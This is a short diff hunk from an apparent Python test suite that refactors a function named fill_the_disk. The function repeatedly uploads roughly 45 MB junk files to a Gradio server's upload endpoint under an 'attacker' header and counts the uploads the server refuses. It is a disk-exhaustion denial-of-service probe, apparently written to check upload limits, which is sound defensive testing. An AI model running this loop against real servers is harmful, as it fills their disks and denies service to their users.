@@ -281,7 +281,8 @@ def fill_the_disk(url: str, until: threading.Event) -> int:
     while not until.is_set():
         with contextlib.suppress(httpx.HTTPError):
             files = {"files": ("x.bin", os.urandom(1024) + bytes(45_000_000))}
-            refused += httpx.post(f"{url}gradio_api/upload", files=files, timeout=60, headers=ATTACKER).status_code != 200
+            sent = httpx.post(f"{url}gradio_api/upload", files=files, timeout=60, headers=ATTACKER)
+            refused += sent.status_code != 200
     return refused
 
 
